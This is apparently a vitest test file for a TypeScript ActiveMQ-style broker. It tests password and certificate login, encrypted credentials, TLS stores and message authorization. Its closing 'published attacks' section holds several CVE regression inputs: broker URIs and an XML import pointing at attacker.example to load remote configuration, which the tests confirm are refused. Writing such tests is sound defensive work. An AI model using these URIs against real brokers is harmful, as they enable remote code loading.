/** Brokers with users, rights and certificates, started from an activemq.xml and asked by clients. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { ConnectionFactory, type FactorySettings, type TextMessage } from '@hermod/client'
import { TextEncryptor } from '@hermod/security'
import { RecordingLogger } from '@hermod/testkit'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createBroker, messageAuthorization, type RunningBroker, startBroker } from '../src/index.js'
import { loadSettings } from '../src/run-request.js'

const STORES = fileURLToPath(new URL('../../transport/test/fixtures/stores', import.meta.url))

let folder: string
let brokers: RunningBroker[]
let log: RecordingLogger

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'hermod-security-'))
  brokers = []
  log = new RecordingLogger()
})
afterEach(async () => {
  await Promise.all(brokers.map((broker) => broker.stop()))
  rmSync(folder, { recursive: true, force: true })
})

const BEANS = 'xmlns="http://www.springframework.org/schema/beans"'
const CORE = 'xmlns="http://activemq.apache.org/schema/core"'

/** `inside` of the broker, `beside` it; starts it and gives the address of its connector. */
async function start(inside: string, { uri = 'tcp://127.0.0.1:0', beside = '', environment = {} } = {}) {
  const file = join(folder, 'activemq.xml')
  const connector = `<transportConnectors><transportConnector name="c" uri="${uri}"/></transportConnectors>`
  writeFileSync(
    file,
    `<beans ${BEANS}>${beside}\n<broker ${CORE} brokerName="b" persistent="false" dataDirectory="${folder}">\n${inside}\n${connector}</broker></beans>`,
  )
  const systemProperties = new Map([['activemq.conf', folder]])
  const installation = { home: folder, base: folder, conf: folder, data: folder, systemProperties, heapBytes: 1e9 }
  const { settings } = loadSettings(`xbean:file:${file}`, installation, environment)
  const broker = await startBroker(settings, { log, systemProperties, environment })
  brokers.push(broker)
  return broker.addresses[0]!
}

async function user(address: string, settings: FactorySettings = {}): Promise<string> {
  const factory = new ConnectionFactory(address, settings)
  try {
    const connection = await factory.createConnection()
    try {
      await connection.start()
      const session = await connection.createSession()
      const consumer = await session.createConsumer('queue://Q')
      await (await session.createProducer('queue://Q')).send(session.createTextMessage('x'))
      return `got ${((await consumer.receive(5000)) as TextMessage).text}`
    } finally {
      await connection.close()
    }
  } catch (error) {
    return (error as Error).message
  }
}

const simple = (password: string) =>
  `<plugins><simpleAuthenticationPlugin><users><authenticationUser username="u" password="${password}" groups="g"/></users></simpleAuthenticationPlugin></plugins>`

describe('passwords', () => {
  test('the TypeScript client logs in with user and password [F1.077]', async () => {
    const address = await start(simple('topsecret'))
    expect(await user(address, { userName: 'u', password: 'topsecret' })).toBe('got x')
    expect(await user(address, { userName: 'u', password: 'hunter2' })).toContain(
      'User name [u] or password is invalid.',
    )
    expect(await user(address)).toContain('User name [null] or password is invalid.')
  })

  test('a user whose password was forgotten in the configuration is nobody, not one with an empty password', async () => {
    const address = await start(simple('x').replace(' password="x"', ''))
    expect(await user(address, { userName: 'u', password: '' })).toContain('User name [u] or password is invalid.')
  })

  test('stand in no log line, whatever happened', async () => {
    const address = await start(simple('topsecret'))
    await user(address, { userName: 'u', password: 'topsecret' })
    await user(address, { userName: 'u', password: 'hunter2' })
    const lines = log.lines.map(({ text }) => text).join('\n')
    expect(lines).toMatch(/Failed to add Connection/)
    expect(lines).not.toMatch(/topsecret|hunter2/)
  })

  test('may be encrypted in a property file, by the beans that ActiveMQ has for it [F7.038] [F7.039]', async () => {
    const encryptor = new TextEncryptor({ password: 'master', algorithm: 'PBEWITHHMACSHA256ANDAES_256' })
    writeFileSync(join(folder, 'credentials.properties'), `user.password=ENC(${encryptor.encrypt('topsecret')})\n`)
    const beside = `
      <bean id="env" class="org.jasypt.encryption.pbe.config.EnvironmentStringPBEConfig">
        <property name="algorithm" value="PBEWITHHMACSHA256ANDAES_256"/>
        <property name="passwordEnvName" value="MASTER"/>
      </bean>
      <bean id="encryptor" class="org.jasypt.encryption.pbe.StandardPBEStringEncryptor"><property name="config" ref="env"/></bean>
      <bean class="org.jasypt.spring31.properties.EncryptablePropertyPlaceholderConfigurer">
        <constructor-arg ref="encryptor"/>
        <property name="location" value="file:${folder}/credentials.properties"/>
      </bean>`
    const address = await start(simple(`\${user.password}`), { beside, environment: { MASTER: 'master' } })
    expect(await user(address, { userName: 'u', password: 'topsecret' })).toBe('got x')
    const wrong = start(simple(`\${user.password}`), { beside, environment: { MASTER: 'other' } })
    await expect(wrong).rejects.toThrow(/activemq\.xml:\d+:\d+: "user\.password": cannot be decrypted/)
    await expect(start(simple(`\${user.password}`), { beside })).rejects.toThrow(/environment variable MASTER/)
  })
})

describe('login.config', () => {
  test('an unknown module stops the start, with the places in both files', async () => {
    writeFileSync(join(folder, 'login.config'), 'activemq-domain {\n  com.evil.Module required;\n};')
    await expect(start('<plugins><jaasAuthenticationPlugin/></plugins>')).rejects.toThrow(
      /activemq\.xml:3:\d+: <jaasAuthenticationPlugin>: .*login\.config:2:3: unknown login module com\.evil\.Module/,
    )
  })

  test('is looked for in the conf directory [F7.004]', async () => {
    writeFileSync(
      join(folder, 'login.config'),
      'activemq-domain { org.apache.activemq.jaas.GuestLoginModule required; };',
    )
    expect(await user(await start('<plugins><jaasAuthenticationPlugin/></plugins>'))).toBe('got x')
  })
})

describe('encrypted connectors', () => {
  const stores = (password = 'password') =>
    `<sslContext><sslContext keyStore="file:${STORES}/broker.jks" keyStorePassword="${password}" keyStoreKeyPassword="another" trustStore="${STORES}/broker-trust.jks" trustStorePassword="password"/></sslContext>`
  const tls = {
    keyStore: `${STORES}/client.p12`,
    keyStorePassword: 'password',
    trustStore: `${STORES}/client-trust.p12`,
    trustStorePassword: 'password',
  }

  test('the TypeScript client connects with stores of its own, over failover as well [F1.098] [F7.033]', async () => {
    const address = await start(stores(), { uri: 'ssl://127.0.0.1:0?transport.needClientAuth=true' })
    expect(address).toMatch(/^ssl:/)
    expect(await user(address, { tls })).toBe('got x')
    expect(await user(`failover:(${address})`, { tls })).toBe('got x')
    expect(await user(address)).toMatch(/could not connect/)
    expect(() => new ConnectionFactory(address, { tls: { ...tls, keyStorePassword: 'wrong' } })).toThrow(
      /stores for encrypted connections cannot be used: key store .*client\.p12: keystore password was incorrect/,
    )
  })

  test('a password that is wrong stops the start with file and place, and is not shown', async () => {
    const refused = start(stores('hunter2'), { uri: 'nio+ssl://127.0.0.1:0' })
    await expect(refused).rejects.toThrow(
      /activemq\.xml:3:\d+: <sslContext>: key store file:.*broker\.jks: keystore was tampered with, or password was incorrect/,
    )
    await expect(refused).rejects.not.toThrow(/hunter2/)
  })

  test('a certificate logs in [F7.005]', async () => {
    writeFileSync(
      join(folder, 'login.config'),
      'activemq-domain { org.apache.activemq.jaas.TextFileCertificateLoginModule required org.apache.activemq.jaas.textfiledn.user="s" org.apache.activemq.jaas.textfiledn.group="g"; };',
    )
    writeFileSync(join(folder, 's'), 'bob=/CN="Smith.*/\n')
    writeFileSync(join(folder, 'g'), '')
    const plugins = '<plugins><jaasCertificateAuthenticationPlugin/></plugins>'
    const address = await start(plugins + stores(), { uri: 'ssl://127.0.0.1:0?needClientAuth=true' })
    expect(await user(address, { tls })).toBe('got x')
    const plain = await start(plugins)
    expect(await user(plain)).toContain('Unable to authenticate transport without SSL certificate.')
  })
})

describe('a message authorization policy', () => {
  test('keeps messages from consumers, and leaves them to others [F7.029] [F4.059]', async () => {
    const policy = messageAuthorization({
      isAllowedToConsume: ({ clientId }, message) => message.properties().get('for') === clientId,
    })
    const broker = await createBroker({ connectors: ['tcp://127.0.0.1:0'], plugins: [policy] })
    brokers.push(broker)
    const as = async (clientId: string) => {
      const connection = await new ConnectionFactory(broker.addresses[0]!, { clientId }).createConnection()
      await connection.start()
      return { connection, session: await connection.createSession() }
    }
    const [alice, bob] = [await as('alice'), await as('bob')]
    const forAlice = await alice.session.createConsumer('queue://Q')
    const forBob = await bob.session.createConsumer('queue://Q')
    const producer = await alice.session.createProducer('queue://Q')
    for (const name of ['alice', 'bob', 'alice', 'bob']) {
      const message = alice.session.createTextMessage(`to ${name}`)
      message.setProperty('for', name)
      await producer.send(message)
    }
    const two = async (consumer: typeof forBob) => [
      ((await consumer.receive(5000)) as TextMessage).text,
      ((await consumer.receive(5000)) as TextMessage).text,
    ]
    expect(await two(forAlice)).toEqual(['to alice', 'to alice'])
    expect(await two(forBob)).toEqual(['to bob', 'to bob'])
    await alice.connection.close()
    await bob.connection.close()
  })
})

describe('published attacks', () => {
  const installation = { home: '.', base: '.', conf: '.', data: '.', systemProperties: new Map(), heapBytes: 1e9 }
  const load = (uri: string) => () => loadSettings(uri, installation, {})

  test.each([
    'xbean:http://attacker.example/evil.xml',
    'xbean:https://attacker.example/evil.xml',
    'xbean:ftp://attacker.example/evil.xml',
    'xbean:jar:http://attacker.example/a.jar!/evil.xml',
    'http://attacker.example/evil.xml',
  ])('CVE-2026-34197 CVE-2026-41044: a configuration from elsewhere is not fetched: %s [F7.065]', (uri) => {
    expect(load(uri)).toThrow(/a configuration is read from a file only|expected xbean:file:PATH/)
  })

  test('CVE-2026-34197: neither is an import of one [F7.065]', async () => {
    const beside = '<import resource="http://attacker.example/evil.xml"/>'
    await expect(start('', { beside })).rejects.toThrow(/only files of this machine are read/)
  })

  test.each([
    'vm://evil?brokerConfig=xbean:http://attacker.example/evil.xml',
    'failover:(vm://evil?brokerConfig=xbean:http://attacker.example/evil.xml)?maxReconnectAttempts=0',
    'static:(vm://evil?brokerConfig=xbean:http://attacker.example/evil.xml)',
    'static:vm://evil?brokerConfig=xbean:http://attacker.example/evil.xml',
    'masterslave:(vm://evil?brokerConfig=xbean:http://attacker.example/evil.xml,tcp://127.0.0.1:1)',
    'masterslave:vm://evil?brokerConfig=xbean:http://attacker.example/evil.xml,tcp://127.0.0.1:1',
    'http://attacker.example/discovery',
    'discovery:(http://attacker.example/discovery)',
    'fanout:(static:(vm://evil?brokerConfig=properties:http://attacker.example/evil))',
  ])(
    'CVE-2026-34197 CVE-2026-40466 CVE-2026-42588 CVE-2026-45505 CVE-2026-49434: an address makes no broker and loads nothing: %s [F7.066]',
    async (address) => {
      const broker = await createBroker()
      brokers.push(broker)
      expect(await user(address, { vm: broker.vm })).toMatch(
        /is not available|unknown option|no broker|not found|cannot be used|invalid address|gave up|there is no/i,
      )
    },
  )
})
